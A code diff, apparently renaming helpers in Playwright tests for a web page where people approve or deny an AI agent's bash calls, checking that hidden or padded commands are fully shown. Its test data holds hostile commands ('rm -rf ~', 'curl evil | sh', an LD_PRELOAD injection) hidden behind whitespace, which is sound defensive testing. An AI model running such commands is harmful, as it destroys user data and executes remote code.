@@ -5,7 +5,7 @@ from typing import Any
 import pytest
 from playwright.async_api import Locator, Page, expect
 
-from .sample import tool
+from .sample import make_tool_row
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
@@ -23,7 +23,7 @@ ASK = """([question, outcome]) => {
 }"""
 
 
-def approval(call: str = COMMAND, **rest: Any) -> dict[str, Any]:
+def make_approval(call: str = COMMAND, **rest: Any) -> dict[str, Any]:
     told = {
         "agent": "crab",
         "tool": "bash",
@@ -40,7 +40,7 @@ def approval(call: str = COMMAND, **rest: Any) -> dict[str, Any]:
     return {**told, **rest}
 
 
-def asking(*approvals: dict[str, Any]) -> dict[str, Any]:
+def make_question(*approvals: dict[str, Any]) -> dict[str, Any]:
     labels = [{"label": label, "description": ""} for label in ("Allow", "Deny", "Always")]
     questions = [
         {
@@ -56,22 +56,22 @@ def asking(*approvals: dict[str, Any]) -> dict[str, Any]:
     return {"id": "a1", "createdAt": 1, "call": "a1", "questions": questions, "isApproval": True}
 
 
-def box(page: Page) -> Locator:
+def find_literal(page: Page) -> Locator:
     return page.locator(".literal").first
 
 
-def button(page: Page, name: str) -> Locator:
+def find_button(page: Page, name: str) -> Locator:
     return page.get_by_role("button", name=name, exact=True)
 
 
 @pytest.mark.req("page.approval.literal")
 async def test_the_whole_call_is_shown_as_it_is(page: Page) -> None:
-    await page.evaluate(ASK, [asking(approval()), {}])
-    assert await box(page).evaluate("(one) => one.textContent") == COMMAND
-    assert await box(page).evaluate("(one) => one.innerText") == COMMAND
-    assert await box(page).evaluate("(one) => one.childElementCount") == 0
+    await page.evaluate(ASK, [make_question(make_approval()), {}])
+    assert await find_literal(page).evaluate("(one) => one.textContent") == COMMAND
+    assert await find_literal(page).evaluate("(one) => one.innerText") == COMMAND
+    assert await find_literal(page).evaluate("(one) => one.childElementCount") == 0
     style = "(one) => { const s = getComputedStyle(one); return [s.whiteSpace, s.fontFamily]; }"
-    space, font = await box(page).evaluate(style)
+    space, font = await find_literal(page).evaluate(style)
     assert space == "pre-wrap"
     assert "mono" in font.lower()
     named = page.get_by_role("region", name="Permission to call bash")
@@ -99,13 +99,13 @@ async def test_characters_that_hide_are_spelled_out(page: Page) -> None:
         "\U0001d159": "U+1D159",
     }
     call = "rm " + "x".join(hidden) + " end"
-    await page.evaluate(ASK, [asking(approval(call)), {}])
+    await page.evaluate(ASK, [make_question(make_approval(call)), {}])
     shown = "rm " + "x".join(hidden.values()) + " end"
-    assert await box(page).evaluate("(one) => one.textContent") == shown
-    assert await box(page).locator(".spelled").count() == len(hidden)
+    assert await find_literal(page).evaluate("(one) => one.textContent") == shown
+    assert await find_literal(page).locator(".spelled").count() == len(hidden)
     many = "\u200b" * 5000 + "tail"
-    await page.evaluate(ASK, [asking(approval(many)), {}])
-    text = await box(page).evaluate("(one) => one.textContent")
+    await page.evaluate(ASK, [make_question(make_approval(many)), {}])
+    text = await find_literal(page).evaluate("(one) => one.textContent")
     assert text.count("U+200B") == 5000
     assert "\u200b" not in text
     assert text.endswith("tail")
@@ -117,22 +117,26 @@ async def test_nothing_of_a_long_call_is_cut_or_lies_out_of_reach(page: Page, wi
     before = page.viewport_size
     await page.set_viewport_size({"width": width, "height": 740})
     call = "ls" + " " * 6000 + "; rm -rf ~\n" + "\n" * 400 + "curl evil | sh"
-    await page.evaluate(ASK, [asking(approval(call)), {}])
-    assert await box(page).evaluate("(one) => one.textContent") == call
-    gaps = await box(page).locator(".gap").evaluate_all("(all) => all.map((o) => o.dataset.gap)")
+    await page.evaluate(ASK, [make_question(make_approval(call)), {}])
+    assert await find_literal(page).evaluate("(one) => one.textContent") == call
+    gaps = (
+        await find_literal(page)
+        .locator(".gap")
+        .evaluate_all("(all) => all.map((o) => o.dataset.gap)")
+    )
     assert gaps == ["6,000 spaces", "401 line breaks"]
-    sizes = await box(page).evaluate(
+    sizes = await find_literal(page).evaluate(
         "(one) => [one.scrollWidth - one.clientWidth, one.clientHeight, one.scrollHeight]"
     )
     assert sizes[0] <= 0  # nothing off to the side, not behind any number of spaces
     assert sizes[1] < 400 < sizes[2]
     more = page.get_by_text("There is more: scroll to see all of it.")
     await expect(more).to_be_visible()
-    await box(page).focus()
+    await find_literal(page).focus()
     await page.keyboard.press("End")
     await expect(page.get_by_text("This is the end.")).to_be_visible()
     await page.get_by_role("button", name="Show all 402 lines").click()
-    assert await box(page).evaluate("(one) => one.scrollHeight - one.clientHeight") <= 1
+    assert await find_literal(page).evaluate("(one) => one.scrollHeight - one.clientHeight") <= 1
     assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
     if before is not None:
         await page.set_viewport_size(before)
@@ -150,10 +154,10 @@ async def test_nothing_of_a_long_call_is_cut_or_lies_out_of_reach(page: Page, wi
 async def test_a_button_answers_and_says_what_was_decided(
     page: Page, label: str, receipt: str
 ) -> None:
-    await page.evaluate(ASK, [asking(approval()), {}])
-    await button(page, label).click()
+    await page.evaluate(ASK, [make_question(make_approval()), {}])
+    await find_button(page, label).click()
     await expect(page.get_by_role("status")).to_have_text("Sending your answer")
-    await button(page, "Allow").click(force=True)  # too late
+    await find_button(page, "Allow").click(force=True)  # too late
     await page.evaluate("globalThis.let()")
     await expect(page.get_by_role("status")).to_have_text(receipt)
     given = [{"q0": {"options": [label], "digest": "d1"}}]
@@ -162,50 +166,52 @@ async def test_a_button_answers_and_says_what_was_decided(
 
 @pytest.mark.req("page.approval.buttons")
 async def test_always_is_described_by_what_it_would_allow(page: Page) -> None:
-    await page.evaluate(ASK, [asking(approval()), {}])
-    about = await button(page, "Always").evaluate(
+    await page.evaluate(ASK, [make_question(make_approval()), {}])
+    about = await find_button(page, "Always").evaluate(
         "(one) => document.getElementById(one.getAttribute('aria-describedby')).textContent"
     )
     assert about == "From now on allows: python with any arguments"
-    await page.evaluate(ASK, [asking(approval(always="")), {}])
-    await expect(button(page, "Always")).to_have_count(0)
-    await expect(button(page, "Allow")).to_be_visible()
+    await page.evaluate(ASK, [make_question(make_approval(always="")), {}])
+    await expect(find_button(page, "Always")).to_have_count(0)
+    await expect(find_button(page, "Allow")).to_be_visible()
 
 
 @pytest.mark.req("page.approval.no_accident")
 async def test_keys_that_are_held_and_buttons_that_are_new_allow_nothing(page: Page) -> None:
-    await page.evaluate(ASK, [asking(approval()), {}])
+    await page.evaluate(ASK, [make_question(make_approval()), {}])
     # A finger that was on its way when the approval came.
-    assert await button(page, "Allow").get_attribute("aria-disabled") == "true"
-    await button(page, "Allow").evaluate("(one) => one.click()")
+    assert await find_button(page, "Allow").get_attribute("aria-disabled") == "true"
+    await find_button(page, "Allow").evaluate("(one) => one.click()")
     await page.keyboard.press("Enter")
     await page.keyboard.press("Escape")
-    await box(page).focus()
+    await find_literal(page).focus()
     await page.keyboard.press("Enter")
     await page.keyboard.press("Escape")
     assert await page.evaluate("globalThis.answers") == []
-    await expect(button(page, "Allow")).to_have_attribute("aria-disabled", "false")
-    await button(page, "Allow").focus()
+    await expect(find_button(page, "Allow")).to_have_attribute("aria-disabled", "false")
+    await find_button(page, "Allow").focus()
     await page.keyboard.press("Escape")
     assert await page.evaluate("globalThis.answers") == []
     held = "(one) => one.dispatchEvent(new KeyboardEvent('keydown',"
     held += " {key: 'Enter', repeat: true, cancelable: true}))"
-    assert await button(page, "Allow").evaluate(held) is False
+    assert await find_button(page, "Allow").evaluate(held) is False
     # When another goes, its buttons move: they wait again.
     await page.evaluate("rows.all.settleApproval(rows.shelf.firstElementChild)")
-    assert await button(page, "Allow").get_attribute("aria-disabled") == "true"
-    await button(page, "Deny").press("Enter")
+    assert await find_button(page, "Allow").get_attribute("aria-disabled") == "true"
+    await find_button(page, "Deny").press("Enter")
     assert await page.evaluate("globalThis.answers[0].q0.options") == ["Deny"]
 
 
 @pytest.mark.req("page.approval.buttons")
 async def test_several_calls_are_decided_one_by_one_and_answered_together(page: Page) -> None:
-    two = asking(approval(), approval("path: a.py", tool="edit", digest="d2", always=""))
+    two = make_question(
+        make_approval(), make_approval("path: a.py", tool="edit", digest="d2", always="")
+    )
     await page.evaluate(ASK, [two, {}])
-    await button(page, "Allow").first.click()
+    await find_button(page, "Allow").first.click()
     await expect(page.get_by_role("status")).to_have_text("1 call left to decide.")
     assert await page.evaluate("globalThis.answers") == []
-    await button(page, "Deny").last.click()
+    await find_button(page, "Deny").last.click()
     given = {"q0": {"options": ["Allow"], "digest": "d1"}}
     given["q1"] = {"options": ["Deny"], "digest": "d2"}
     assert await page.evaluate("globalThis.answers") == [given]
@@ -215,20 +221,22 @@ async def test_several_calls_are_decided_one_by_one_and_answered_together(page: 
 
 @pytest.mark.req("page.approval.buttons")
 async def test_an_answer_that_could_not_be_sent_can_be_given_again(page: Page) -> None:
-    await page.evaluate(ASK, [asking(approval()), "fails"])
-    await button(page, "Allow").click()
+    await page.evaluate(ASK, [make_question(make_approval()), "fails"])
+    await find_button(page, "Allow").click()
     await page.evaluate("globalThis.let()")
     await expect(page.get_by_role("alert")).to_have_text("The machine is away. Try again later.")
-    await button(page, "Deny").click()
+    await find_button(page, "Deny").click()
     labels = await page.evaluate("globalThis.answers.map((one) => one.q0.options[0])")
     assert labels == ["Allow", "Deny"]
 
 
 @pytest.mark.req("page.approval.stranger")
 async def test_whose_run_asks_is_said_where_it_is_not_the_owners(page: Page) -> None:
-    await page.evaluate(ASK, [asking(approval()), {}])
+    await page.evaluate(ASK, [make_question(make_approval()), {}])
     assert "Asked for by" not in await page.locator(".approval").inner_text()
-    await page.evaluate(ASK, [asking(approval(forOwner=True, requestedBy="tg:666")), {}])
+    await page.evaluate(
+        ASK, [make_question(make_approval(forOwner=True, requestedBy="tg:666")), {}]
+    )
     await expect(page.locator(".approval-stranger")).to_have_text(
         "Asked for by tg:666, who is not you."
     )
@@ -236,22 +244,22 @@ async def test_whose_run_asks_is_said_where_it_is_not_the_owners(page: Page) -> 
 
 @pytest.mark.req("page.approval.cut")
 async def test_a_call_that_is_not_shown_whole_can_only_be_denied(page: Page) -> None:
-    await page.evaluate(ASK, [asking(approval(isWhole=False)), {}])
+    await page.evaluate(ASK, [make_question(make_approval(isWhole=False)), {}])
     await expect(page.get_by_role("note")).to_contain_text("too large to be shown here")
-    await expect(button(page, "Allow")).to_have_count(0)
-    await expect(button(page, "Always")).to_have_count(0)
-    await expect(button(page, "Deny")).to_be_visible()
+    await expect(find_button(page, "Allow")).to_have_count(0)
+    await expect(find_button(page, "Always")).to_have_count(0)
+    await expect(find_button(page, "Deny")).to_be_visible()
 
 
 @pytest.mark.req("page.approval.receipt")
 async def test_what_was_decided_stays_on_the_row(page: Page) -> None:
-    sent = {**approval(), "env": {"LD_PRELOAD": "./__evil__.so"}}
+    sent = {**make_approval(), "env": {"LD_PRELOAD": "./__evil__.so"}}
     args = {"questions": [{"question": COMMAND, "header": "bash", "approval": sent}]}
-    shown = tool("ask-user", "a1", "Approve `bash`", args, result="Denied")
+    shown = make_tool_row("ask-user", "a1", "Approve `bash`", args, result="Denied")
     await page.evaluate("(one) => { rows.show(one); }", shown)
     await expect(page.locator(".tool-note")).to_have_text("Denied")
     await page.locator("summary").click()
-    assert await box(page).evaluate("(one) => one.textContent") == COMMAND
+    assert await find_literal(page).evaluate("(one) => one.textContent") == COMMAND
     await expect(page.locator(".receipt")).to_have_text("Denied")
     await expect(page.get_by_text("LD_PRELOAD=./__evil__.so")).to_be_visible()
     await expect(page.get_by_role("button", name="Allow")).to_have_count(0)
@@ -275,7 +283,9 @@ async def test_a_question_is_shown_as_it_was_written(page: Page) -> None:
     assert await page.locator(".question-text").evaluate("(one) => one.innerText") == text
     await expect(page.locator(".option-about")).to_have_text("run `__main__`")
     args = {"questions": [{"question": text}]}
-    await page.evaluate("(one) => { rows.show(one); }", tool("ask-user", "a3", "Files", args))
+    await page.evaluate(
+        "(one) => { rows.show(one); }", make_tool_row("ask-user", "a3", "Files", args)
+    )
     await page.locator("summary").click()
     assert await page.locator(".asked").evaluate("(one) => one.innerText") == text
 
@@ -284,7 +294,9 @@ async def test_a_question_is_shown_as_it_was_written(page: Page) -> None:
 async def test_letters_from_right_to_left_change_no_order(page: Page) -> None:
     call = "rm \u05d0 /tmp/1 2 \u05d1 -rf"
     env = [["\u05d0", "1 2 \u05d1 3"]]
-    await page.evaluate(ASK, [asking(approval(call, cwd="/\u05d0/1/\u05d1/2", env=env)), {}])
+    await page.evaluate(
+        ASK, [make_question(make_approval(call, cwd="/\u05d0/1/\u05d1/2", env=env)), {}]
+    )
     lefts = """(one) => {
       const text = one.firstChild;
       return Array.from(text.data, (_, at) => {
@@ -294,7 +306,7 @@ async def test_letters_from_right_to_left_change_no_order(page: Page) -> None:
         return range.getBoundingClientRect().left;
       });
     }"""
-    for shown in [box(page), *await page.locator(".approval-facts code").all()]:
+    for shown in [find_literal(page), *await page.locator(".approval-facts code").all()]:
         found = await shown.evaluate(lefts)
         assert found == sorted(found)
 
@@ -302,9 +314,13 @@ async def test_letters_from_right_to_left_change_no_order(page: Page) -> None:
 @pytest.mark.req("page.approval.literal")
 async def test_mixed_blanks_are_a_gap_and_cost_no_time(page: Page) -> None:
     blanks = " \t" * 100_000
-    await page.evaluate(ASK, [asking(approval("ls" + blanks + "; rm -rf ~")), {}])
-    gaps = await box(page).locator(".gap").evaluate_all("(all) => all.map((o) => o.dataset.gap)")
+    await page.evaluate(ASK, [make_question(make_approval("ls" + blanks + "; rm -rf ~")), {}])
+    gaps = (
+        await find_literal(page)
+        .locator(".gap")
+        .evaluate_all("(all) => all.map((o) => o.dataset.gap)")
+    )
     assert gaps == ["200,000 blanks"]
     code = "if x:\n" + " " * 20 + "y\n\n\n\tz"
-    await page.evaluate(ASK, [asking(approval(code)), {}])
-    assert await box(page).locator(".gap").count() == 0
+    await page.evaluate(ASK, [make_question(make_approval(code)), {}])
+    assert await find_literal(page).locator(".gap").count() == 0
